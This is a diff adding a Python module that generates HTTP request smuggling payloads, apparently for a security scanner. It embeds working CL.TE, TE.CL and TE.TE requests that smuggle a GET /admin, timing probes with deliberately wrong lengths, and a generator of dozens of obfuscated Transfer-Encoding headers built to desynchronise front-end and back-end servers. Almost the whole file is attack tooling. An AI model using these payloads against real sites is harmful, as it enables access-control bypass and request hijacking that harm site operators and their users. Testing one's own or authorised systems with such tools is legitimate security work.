@@ -0,0 +1,216 @@
+#!/usr/bin/env python3
+"""
+HTTP Request Smuggling Payload Engine
+Parses config/payloads/smuggling.txt once, precompiles every template into
+byte segments and renders them per host, with lazily generated
+Transfer-Encoding obfuscations for TE.TE testing.
+"""
+
+import re
+from itertools import product
+from pathlib import Path
+
+PAYLOADS_FILE = Path(__file__).resolve().parent.parent / "config" / "payloads" / "smuggling.txt"
+HOST_PLACEHOLDER = b"TARGET"
+CANONICAL_TE = b"Transfer-Encoding: chunked"
+_CL_MARKER = b"\x00CL\x00"
+_TE_MARKER = b"\x00TE\x00"
+RENDER_CACHE_SIZE = 4096
+
+# Same format as smuggling.txt; used when the config directory is absent
+DEFAULT_PAYLOADS = r"""
+CL.TE|POST / HTTP/1.1\r\nHost: TARGET\r\nContent-Length: 13\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: TARGET\r\nX-Ignore: X
+TE.CL|POST / HTTP/1.1\r\nHost: TARGET\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n17\r\nGET /admin HTTP/1.1\r\n\r\n0
+TE.TE|POST / HTTP/1.1\r\nHost: TARGET\r\nTransfer-Encoding: chunked\r\nTransfer-encoding: x\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: TARGET
+TE.TE|POST / HTTP/1.1\r\nHost: TARGET\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: TARGET
+"""
+
+# Timing probes only stall a desynchronised chain; their Content-Length is
+# deliberately wrong and must never be recomputed
+TIMING_PAYLOADS = r"""
+TIMING.CL.TE|POST / HTTP/1.1\r\nHost: TARGET\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n1\r\nA\r\nX
+TIMING.TE.CL|POST / HTTP/1.1\r\nHost: TARGET\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nX
+"""
+
+_HEX_LINE = re.compile(rb"[0-9a-fA-F]+")
+
+def parse_payload_lines(lines):
+    """Yield (kind, raw bytes) from TYPE|PAYLOAD lines with escaped CR/LF"""
+    for line in lines:
+        line = line.strip()
+        if not line or line.startswith("#") or "|" not in line:
+            continue
+        kind, payload = line.split("|", 1)
+        payload = payload.replace("\\r", "\r").replace("\\n", "\n")
+        yield kind.strip().upper(), payload.encode('latin-1')
+
+def normalize_chunked(body):
+    """
+    Rewrite a single-chunk body so the size line matches its data and the
+    zero-size terminator is complete. Bodies in any other shape are returned
+    untouched.
+    """
+    size_line, sep, rest = body.partition(b"\r\n")
+    if not sep or not _HEX_LINE.fullmatch(size_line) or int(size_line, 16) == 0:
+        return body
+    if rest.endswith(b"0\r\n\r\n"):
+        data = rest[:-5]
+    elif rest.endswith(b"0"):
+        data = rest[:-1]
+    else:
+        return body
+    # A smuggled request keeps its blank line; otherwise the trailing CRLF
+    # belongs to the chunk framing, not the data
+    if data.endswith(b"\r\n") and not data.endswith(b"\r\n\r\n"):
+        data = data[:-2]
+    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data)
+
+class Template:
+    """
+    One payload, split once into byte segments around the host placeholder.
+    The Transfer-Encoding header block is cut out so obfuscated variants can
+    be spliced in. Unless `fix_length` is off, Content-Length is recomputed on
+    render because the file's hand-written lengths drift from the bodies.
+    """
+
+    def __init__(self, kind, raw, fix_length=True):
+        self.kind = kind
+        head, _, body = raw.partition(b"\r\n\r\n")
+        size_line = body.partition(b"\r\n")[0]
+        self.chunked_body = _HEX_LINE.fullmatch(size_line) is not None and int(size_line, 16) != 0
+        # A TE.CL prefix payload relies on its declared (short) length
+        fix_length = fix_length and (kind != "TE.CL" or self.chunked_body)
+
+        lines = head.split(b"\r\n")
+        kept = []
+        te_lines = []
+        in_te = False
+        for line in lines:
+            name = line.split(b":", 1)[0].strip().lower()
+            if name == b"transfer-encoding" or (in_te and line[:1] in (b" ", b"\t")):
+                if not te_lines:
+                    kept.append(_TE_MARKER)
+                te_lines.append(line)
+                in_te = True
+                continue
+            in_te = False
+            if fix_length and name == b"content-length":
+                line = b"Content-Length: " + _CL_MARKER
+            kept.append(line)
+
+        self.te_block = b"\r\n".join(te_lines) if te_lines else None
+        self.has_length = any(_CL_MARKER in line for line in kept)
+        self._head = (b"\r\n".join(kept) + b"\r\n\r\n").split(HOST_PLACEHOLDER)
+        self._body = body.split(HOST_PLACEHOLDER)
+
+    def render(self, host, te_block=None):
+        """Substitute the host (bytes) and optionally a replacement TE block"""
+        body = host.join(self._body)
+        if self.chunked_body:
+            body = normalize_chunked(body)
+        head = host.join(self._head)
+        if self.te_block is not None:
+            head = head.replace(_TE_MARKER, te_block or self.te_block)
+        if self.has_length:
+            if self.kind == "TE.CL" and self.chunked_body:
+                # Back-end reads only the first chunk-size line by length
+                length = body.index(b"\r\n") + 2
+            else:
+                length = len(body)
+            head = head.replace(_CL_MARKER, str(length).encode())
+        return head + body
+
+def te_variants(seed_blocks=()):
+    """
+    Lazily yield obfuscated Transfer-Encoding header blocks, most commonly
+    effective first: blocks taken from the payload file, structural tricks
+    (duplicates, folding, stray whitespace), then casing x separator x value.
+    The canonical header is never yielded.
+    """
+    seen = {CANONICAL_TE}
+
+    def fresh(block):
+        if block in seen:
+            return False
+        seen.add(block)
+        return True
+
+    for block in seed_blocks:
+        if fresh(block):
+            yield block
+
+    structural = (
+        CANONICAL_TE + b"\r\nTransfer-encoding: x",
+        b"Transfer-Encoding: x\r\n" + CANONICAL_TE,
+        CANONICAL_TE + b"\r\n" + CANONICAL_TE,
+        b"Transfer-Encoding:\r\n chunked",
+        b"Transfer-Encoding:\r\n\tchunked",
+        b" Transfer-Encoding: chunked",
+        b"X: X\nTransfer-Encoding: chunked",
+        b"Transfer-Encoding\r\n : chunked",
+        b"Transfer-Encoding:\x0bchunked",
+        b"Transfer-Encoding:\x0cchunked",
+    )
+    for block in structural:
+        if fresh(block):
+            yield block
+
+    names = (b"Transfer-Encoding", b"transfer-encoding", b"TRANSFER-ENCODING", b"Transfer-encoding", b"Transfer_Encoding")
+    separators = (b": ", b":", b" : ", b":\t", b": \t")
+    values = (b"chunked", b"xchunked", b"chunked ", b"CHUNKED", b"chunked, identity", b"identity, chunked", b'"chunked"')
+    for name, separator, value in product(names, separators, values):
+        block = name + separator + value
+        if fresh(block):
+            yield block
+
+class PayloadEngine:
+    """Compiled templates grouped by kind, with per-host render caching"""
+
+    def __init__(self, payloads):
+        self.templates = {}
+        for kind, raw in payloads:
+            fix_length = not kind.startswith("TIMING.")
+            self.templates.setdefault(kind, []).append(Template(kind, raw, fix_length))
+        self._rendered = {}
+
+    @classmethod
+    def from_file(cls, path=PAYLOADS_FILE):
+        try:
+            with open(path, encoding='utf-8') as f:
+                lines = f.read().splitlines()
+        except OSError:
+            lines = DEFAULT_PAYLOADS.splitlines()
+        return cls(parse_payload_lines(lines + TIMING_PAYLOADS.splitlines()))
+
+    def kinds(self):
+        return list(self.templates)
+
+    def render(self, kind, host, index=0, te_block=None):
+        """Render one template of `kind` for `host` (str); results are cached"""
+        key = (kind, index, host, te_block)
+        payload = self._rendered.get(key)
+        if payload is None:
+            template = self.templates[kind][index]
+            payload = template.render(host.encode('latin-1'), te_block)
+            if len(self._rendered) >= RENDER_CACHE_SIZE:
+                self._rendered.clear()
+            self._rendered[key] = payload
+        return payload
+
+    def render_all(self, kind, host):
+        return [self.render(kind, host, index) for index in range(len(self.templates.get(kind, ())))]
+
+    def te_variants(self):
+        """Obfuscated TE blocks, seeded with those found in the TE.TE templates"""
+        seeds = [t.te_block for t in self.templates.get("TE.TE", ()) if t.te_block]
+        return te_variants(seeds)
+
+_engines = {}
+
+def load_payloads(path=PAYLOADS_FILE):
+    """Parse the payload file once per process"""
+    engine = _engines.get(path)
+    if engine is None:
+        engine = PayloadEngine.from_file(path)
+        _engines[path] = engine
+    return engine